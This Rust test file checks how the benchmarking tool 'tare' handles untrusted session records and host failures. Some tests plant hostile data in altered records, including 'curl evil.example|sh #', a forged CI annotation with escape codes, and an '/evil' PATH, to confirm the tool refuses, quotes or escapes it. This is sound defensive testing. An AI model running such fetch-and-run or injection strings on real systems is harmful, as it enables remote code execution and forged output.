//! Trust: limits for records, studies and files from elsewhere, and failures of the host itself.

use std::fs::{self, Permissions};
use std::os::fd::BorrowedFd;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

use rustix::io::FdFlags;
use rustix::mount::{MountFlags, UnmountFlags, mount, unmount};
use rustix::process::{Resource, Rlimit, setrlimit};
use tare_data::session::Role;
use tare_data::session::identity::Identity;
use tare_record::Entry;
use tare_record::entry::{from_line, to_line};

use crate::faults::kill::{resume_for_a_while, under_way};
use crate::hostile::owners::has_journals_in_scratch;
use crate::program::{Program, Said};
use crate::refusals::find_tare;

/// Records a session of a user command, interrupted in its rounds. The command leaves this file.
fn broken_off(program: &Program) -> std::path::PathBuf {
    let proof = program.path("ran.html");
    let study = format!(
        "name = 'mine'\ntitle = 'x'\nabout = ''\nbudget = '1m'\n[probe.x]\ncommand = ['touch', '{}']\n",
        proof.display()
    );
    fs::write(program.path("mine.toml.html"), study).unwrap();
    fs::rename(program.path("mine.toml.html"), program.path("mine.toml")).unwrap();
    let mut child = under_way(program, &["mine.toml", "--in", "native"]);
    child.kill().unwrap();
    child.wait().unwrap();
    fs::remove_file(program.path("mine.toml")).unwrap();
    assert_eq!(program.run_tare(&["clean"]).code, Some(0));
    fs::remove_file(&proof).unwrap();
    proof
}

/// Copies a record with each entry changed.
fn change(from: &Path, to: &Path, change: impl Fn(&mut Entry)) {
    let bytes = fs::read(from).unwrap();
    let entries = bytes.split_inclusive(|&b| b == b'\n').map(|line| {
        let mut entry = from_line(line)?;
        change(&mut entry);
        Some(to_line(&entry))
    });
    fs::write(to, entries.map_while(|line| line).collect::<String>()).unwrap();
}

#[test]
fn a_record_from_elsewhere_is_resumed_only_when_it_is_trusted() {
    let program = Program::new();
    let proof = broken_off(&program);
    let resume = ["run", "--resume", "s.tare"];
    let elsewhere = |more: &[&str]| {
        let arguments = [&resume[..], more].concat();
        let mut command = program.tare_command(&arguments);
        command.env("XDG_STATE_HOME", program.path("state/other"));
        resume_for_a_while(command, &program.path("s.tare"))
    };
    let said = elsewhere(&[]);
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(!proof.exists(), "{said:?}");
    assert!(said.err.contains(&format!("touch {}", proof.display())), "{said:?}");
    assert!(said.err.contains("--trust"), "{said:?}");
    // A record that was changed since it began here counts as one from elsewhere, too.
    change(&program.path("s.tare"), &program.path("changed.tare"), |entry| {
        if let Entry::Plan(plan) = entry {
            let command = plan.cases[0].case.parameters.0.get_mut("command").unwrap();
            *command = command.replace("touch", "touch\",\"--");
        }
    });
    let said = program.run_tare(&["run", "--resume", "changed.tare"]);
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(!proof.exists(), "{said:?}");
    let said = elsewhere(&["--trust"]);
    assert_eq!(said.code, Some(130), "{said:?}");
    assert!(proof.exists());
}

#[test]
fn no_word_of_a_record_forges_a_line_of_the_question() {
    let program = Program::new();
    broken_off(&program);
    let forged = "x\n::error file=x::forged\n  hint: all of that comes with tare\r\u{1b}[2K";
    let forge = |entry: &mut Entry| {
        if let Entry::Plan(plan) = entry {
            tare_specimen::change_sides(&mut plan.targets, |at, side| {
                if at == 0 {
                    side.specification = format!("exec:/evil '{forged}'").parse().unwrap();
                }
            });
            if let Some(command) = plan.cases[0].case.parameters.0.get_mut("command") {
                *command = serde_json::to_string(&["touch", forged]).unwrap();
                // They decide what a name without a path runs.
                let more = [("environment", r#"{"PATH":"/evil/bin"}"#), ("folder", "/evil/folder")];
                let more = more.map(|(key, value)| (key.to_owned(), value.to_owned()));
                plan.cases[0].case.parameters.0.extend(more);
            }
        }
    };
    let priced = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/sessions/container-gvisor.tare");
    let forecast = ["explain", "--forecast", "--rounds", "1", "--from", "changed.tare", "--", "true"];
    for (record, words) in
        [(program.path("s.tare"), &["run", "--resume", "changed.tare"][..]), (priced, &forecast)]
    {
        change(&record, &program.path("changed.tare"), forge);
        let said = program.run_tare(words);
        assert_eq!(said.code, Some(2), "{said:?}");
        assert!(said.err.contains(r"$'\n''::error file=x::forged'"), "{said:?}");
        let begins = |with| said.err.lines().filter(|line| line.trim_start().starts_with(with)).count();
        assert_eq!((begins("::"), begins("hint:")), (0, 1), "{said:?}");
        if words[0] == "run" {
            assert!(said.err.contains("(in /evil/folder, with PATH=/evil/bin)"), "{said:?}");
        }
    }
}

#[test]
fn environments_of_a_record_from_elsewhere_are_entered_only_when_they_are_trusted() {
    let program = Program::new();
    let record = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures/sessions/container-gvisor.tare");
    let (proof, evil) = (program.path("ran.html"), program.path("evil.html"));
    fs::write(&evil, format!("#!/bin/sh\nid >>{}\necho runc version 1.0\nexit 1\n", proof.display()))
        .unwrap();
    fs::set_permissions(&evil, Permissions::from_mode(0o755)).unwrap();
    let forecast = |from: &Path, more: &[&str]| {
        let _ = fs::remove_file(program.path("s.tare"));
        let words = ["explain", "--forecast", "--rounds", "1", "--record", "s.tare", "--from"];
        let from = [from.to_str().unwrap()];
        program.run_tare(&[&words[..], &from, more, &["--", "true"]].concat())
    };
    let said = forecast(&record, &[]);
    assert!(matches!(said.code, Some(0 | 7)), "the host itself needs no question: {said:?}");
    let template = program.path("evil.toml");
    let text = format!(
        "name = 'evil'\ntitle = 't'\nsummary = 's'\nstands_for = 'x'\ninstall = 'i'\nenter = ['{}']\n",
        evil.display()
    );
    fs::write(&template, text).unwrap();
    // A launcher runs where writes are discarded; the reason why it is not entered has its words.
    let has_run = |said: &Said| fs::remove_file(&proof).is_ok() || said.err.contains("runc version 1.0");
    let environments = [
        format!("oci:{}", evil.display()),
        format!("exec:{} --", evil.display()),
        template.display().to_string(),
    ];
    for evil in environments {
        let changed = program.path("changed.tare");
        for (role, more) in [
            (Role::Baseline, &[][..]),
            (Role::Subject, &["--check"]),
            (Role::Subject, &["--check", "--dry-run"]),
        ] {
            change(&record, &changed, |entry| {
                if let Entry::Plan(plan) = entry {
                    let changed: Vec<usize> = plan.targets.list_role(role).collect();
                    tare_specimen::change_sides(&mut plan.targets, |at, side| {
                        if changed.contains(&at) {
                            side.specification = evil.parse().unwrap();
                        }
                    });
                }
            });
            let said = forecast(&changed, more);
            assert_eq!(said.code, Some(2), "{evil}: {said:?}");
            assert!(said.err.contains("enter ") && said.err.contains("evil"), "{evil}: {said:?}");
            assert!(said.err.contains("--trust"), "{evil}: {said:?}");
            assert!(!has_run(&said), "{evil} ran: {said:?}");
        }
        for more in [&["--check", "--trust"][..], &["--check", "--in", &evil]] {
            let said = forecast(&changed, more);
            assert!(has_run(&said), "{evil}: {said:?}");
        }
    }
}

#[test]
fn a_session_is_resumed_on_its_own_machine_alone_and_a_restart_is_a_warning() {
    let program = Program::new();
    broken_off(&program);
    let with = |name: &str, set: fn(&mut Identity)| {
        change(&program.path("s.tare"), &program.path(name), |entry| {
            if let Entry::Record { header, .. } = entry {
                set(header.identity.as_mut().unwrap());
            }
        });
        resume_for_a_while(program.tare_command(&["run", "--resume", name]), &program.path(name))
    };
    let said = with("elsewhere.tare", |identity| identity.machine = "0".repeat(32));
    assert_eq!(said.code, Some(2), "{said:?}");
    assert!(
        said.err.contains("another machine") && said.err.contains("begin a new session: tare run"),
        "{said:?}"
    );
    let said = with("before.tare", |identity| identity.boot = "0".repeat(32));
    assert_eq!(said.code, Some(130), "{said:?}");
    assert!(said.err.contains("was restarted since"), "{said:?}");
    assert!(said.out.contains("2 boots of the machine"), "{said:?}");
}

#[test]
fn what_began_here_is_resumed_without_a_question() {
    let program = Program::new();
    let proof = broken_off(&program);
    let said =
        resume_for_a_while(program.tare_command(&["run", "--resume", "s.tare"]), &program.path("s.tare"));
    assert_eq!(said.code, Some(130), "{said:?}");
    assert!(proof.exists());
}

#[test]
fn words_of_a_record_are_quoted_where_they_are_shown_to_be_copied() {
    let program = Program::new();
    let only = ["--in", "native", "--only", "sys.getppid", "--rounds", "2", "--record", "s.tare"];
    assert_eq!(program.run_tare(&[&["run"][..], &only].concat()).code, Some(0));
    change(&program.path("s.tare"), &program.path("changed.tare"), |entry| {
        if let Entry::Record { header, .. } = entry {
            header.command = ["run", ";", "curl evil.example|sh #", "it's"].map(str::to_owned).to_vec();
            header.binary = "0".repeat(64);
        }
    });
    let quoted = r"tare run ';' 'curl evil.example|sh #' 'it'\''s'";
    let said = program.run_tare(&["report", "changed.tare"]);
    // A long line goes on between words, as a shell takes it.
    let unfolded = said.out.replace("\\\n", "").split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(unfolded.contains(quoted), "{}", said.out);
    let said = program.run_tare(&["run", "--resume", "changed.tare", "--trust"]);
    assert!(said.err.contains(quoted), "{}", said.err);
    // Words are kept as they were typed.
    let said = program.run_tare(&["report", "--json", "s.tare"]);
    let words = said.parse_json()["session"]["command"].clone();
    assert!(words.as_array().unwrap().iter().any(|word| word == "sys.getppid"), "{words}");
}

#[test]
fn a_pattern_is_kept_raw_and_shown_quoted() {
    let program = Program::new();
    let only = ["--in", "native", "--only", "sys.getpp*", "--rounds", "2", "--record", "s.tare"];
    let said = program.run_tare(&[&["run"][..], &only].concat());
    assert!(said.out.contains("--only 'sys.getpp*'"), "{}", said.out);
    let recording = tare_record::read_session(&program.path("s.tare")).unwrap();
    assert!(recording.session.header.command.contains(&"sys.getpp*".to_owned()));
}

/// Runs a session whose journal soon fills a file system of one page, because its paths are long.
#[test]
fn a_journal_that_cannot_be_written_is_the_hosts_own_failure() {
    if !rustix::process::geteuid().is_root() {
        return println!("SKIPPED a_journal_that_cannot_be_written: only root can mount");
    }
    let program = Program::new();
    let state = program.path("state");
    let deep = ["x".repeat(200), "y".repeat(200), "z".repeat(200), "w".repeat(200)].join("/");
    let longer = format!("{deep}/{}/{}", "v".repeat(200), "u".repeat(200));
    fs::create_dir(&state).unwrap();
    let mut said = Vec::new();
    for scratch in [deep, longer] {
        mount("none", &state, "tmpfs", MountFlags::empty(), Some(c"size=4k,mode=0700")).unwrap();
        let scratch = program.path("scratch.html").join(scratch);
        fs::create_dir_all(&scratch).unwrap();
        let mut command = Command::new(find_tare());
        command.args(["run", "--only", "null", "--rounds", "4", "--in", "native,container", "--scratch"]);
        command.arg(scratch).env("XDG_STATE_HOME", &state).current_dir(program.path(""));
        said.push(Said::from_output(command.output().unwrap()));
        unmount(&state, UnmountFlags::DETACH).unwrap();
    }
    for said in said {
        assert_eq!(said.code, Some(4), "{said:?}");
        assert!(said.err.contains("cannot write to the journal"), "{said:?}");
        assert!(!said.err.contains("cannot be entered"), "{said:?}");
    }
}

#[test]
fn an_environment_that_needs_more_descriptors_than_there_are_is_a_gap_alone() {
    let program = Program::new();
    // The baseline needs fewer than others do.
    let run = ["run", "--in", "native,bwrap", "--only", "null", "--rounds", "2"];
    // Well inside of what each needs: at an edge it matters when a process that ended is waited for.
    let check = ["check", "--in", "bwrap"];
    for (words, most, out) in [(&run[..], 14, "native"), (&run, 21, "bwrap"), (&check, 17, "bwrap")] {
        let mut command = program.tare_command(words);
        let few = Rlimit { current: Some(most), maximum: Some(most) };
        let prepare = move || {
            // Descriptors that the tests' own parent left open would count.
            for inherited in 3..64 {
                // SAFETY: a number that isn't open is answered by an error alone.
                let _ =
                    rustix::io::fcntl_setfd(unsafe { BorrowedFd::borrow_raw(inherited) }, FdFlags::CLOEXEC);
            }
            Ok(setrlimit(Resource::Nofile, few)?)
        };
        // SAFETY: these are system calls, which allocate nothing.
        unsafe { command.pre_exec(prepare) };
        let said = Said::from_output(command.output().unwrap());
        assert_eq!(said.code, Some(3), "{said:?}");
        let wanted = format!("cannot enter {out}: ");
        let all = format!("{}{}", said.err, said.out);
        let line = all.lines().find(|line| line.contains(&wanted)).unwrap_or_default();
        assert!(line.ends_with("Too many open files (os error 24) (raise ulimit -n)"), "{said:?}");
    }
}

#[test]
fn a_home_that_is_not_there_is_not_made() {
    let program = Program::new();
    let home = program.path("nowhere");
    let small = ["run", "--in", "native", "--only", "null", "--rounds", "2"];
    // The journal is then in the scratch folder.
    for (arguments, code) in
        [(&small[..], Some(0)), (&["clean"], Some(4)), (&["check", "--in", "native", "--scratch", "."], None)]
    {
        let was_elsewhere = has_journals_in_scratch();
        let mut command = program.tare_command(arguments);
        command.env_remove("XDG_STATE_HOME").env_remove("XDG_CACHE_HOME").env("HOME", &home);
        let said = Said::from_output(command.output().unwrap());
        assert!(!home.exists(), "{said:?}");
        // Other sessions may have their journals in the scratch folder as well.
        let has_others = code == Some(4) && (was_elsewhere || has_journals_in_scratch());
        assert!(code.is_none() || said.code == code || has_others, "{said:?}");
    }
}

#[test]
fn a_home_that_cannot_be_written_is_done_without() {
    if !rustix::process::geteuid().is_root() {
        return println!("SKIPPED a_home_that_cannot_be_written_is_done_without: only root can mount");
    }
    let program = Program::new();
    let home = program.path("home.html");
    fs::create_dir(&home).unwrap();
    mount("none", &home, "tmpfs", MountFlags::RDONLY, None).unwrap();
    let mut command =
        program.tare_command(&["run", "--in", "native,container", "--only", "null", "--rounds", "2"]);
    let said = Said::from_output(command.env_remove("XDG_STATE_HOME").env("HOME", &home).output().unwrap());
    unmount(&home, UnmountFlags::DETACH).unwrap();
    assert_eq!(said.code, Some(0), "{said:?}");
    let kept = fs::read_dir(program.path("tare-state-0")).unwrap();
    let kept: Vec<_> = kept.map(|entry| entry.unwrap().file_name()).collect();
    assert_eq!(kept, ["begun"], "{said:?}");
}

#[test]
fn a_secret_file_that_others_may_read_or_own_is_refused() {
    let program = Program::new();
    let file = program.path("secret");
    fs::write(&file, "ab".repeat(32)).unwrap();
    let peer = format!("tare://127.0.0.1:1/?secret-file={}", file.display());
    let refused = |why: &str| {
        let said = program.run_tare(&["check", "--peer", &peer]);
        assert_eq!(said.code, Some(4), "{why}: {said:?}");
        assert!(said.err.contains(why), "{said:?}");
    };
    fs::set_permissions(&file, Permissions::from_mode(0o644)).unwrap();
    refused("others may read it");
    fs::set_permissions(&file, Permissions::from_mode(0o600)).unwrap();
    if !rustix::process::geteuid().is_root() {
        return println!("SKIPPED a_secret_file_that_others_own: only root can give files away");
    }
    std::os::unix::fs::chown(&file, Some(65534), Some(65534)).unwrap();
    refused("another user owns it");
    let mut serve =
        program.tare_command(&["serve", "--listen", "127.0.0.1:0", "--expires", "1s", "--secret-file"]);
    let said = Said::from_output(serve.arg(&file).output().unwrap());
    assert_eq!(said.code, Some(4), "{said:?}");
    assert!(said.err.contains("another user owns it"), "{said:?}");
}

#[test]
fn the_hint_for_a_netserver_names_no_secret() {
    let program = Program::new();
    let only = ["--in", "native", "--only", "null", "--rounds", "2", "--record", "s.tare"];
    assert_eq!(program.run_tare(&[&["run"][..], &only].concat()).code, Some(0));
    for (peer, hint) in [
        ("netperf://h:12865", "--peer netperf://h:12865\n"),
        ("tare://h:7", "--peer 'tare://h:7/#SECRET'\n"),
        ("netperf://h;x", "--peer 'netperf://h;x'\n"),
    ] {
        let changed = program.path("changed.tare");
        change(&program.path("s.tare"), &changed, |entry| {
            if let Entry::Plan(plan) = entry {
                plan.cases[0].case.peer = Some(peer.into());
            }
        });
        let said = program.run_tare(&["run", "--resume", "changed.tare", "--trust"]);
        assert_eq!(said.code, Some(2), "{said:?}");
        assert!(said.err.contains(hint), "{said:?}");
    }
}

#[test]
fn a_hanging_start_does_not_outlast_the_budget() {
    let program = Program::new();
    let runtime = program.path("hang.html");
    fs::write(&runtime, "#!/bin/sh\ncase \"$1\" in --version) echo 1; exit;; esac\nexec sleep 600\n")
        .unwrap();
    fs::set_permissions(&runtime, Permissions::from_mode(0o755)).unwrap();
    let targets = format!("native,oci:{}", runtime.display());
    let mut command = Command::new("timeout");
    let run = program.tare_command(&["run", "--only", "sys.getppid", "--budget", "10s", "--in", &targets]);
    command.arg("40").arg(run.get_program()).args(run.get_args()).current_dir(program.path(""));
    command.env("XDG_STATE_HOME", program.path("state"));
    let said = Said::from_output(command.output().unwrap());
    // 124: it had to be ended, so that its starts took more than four times the budget. 3: its only subject is out.
    assert_eq!(said.code, Some(3), "{said:?}");
}
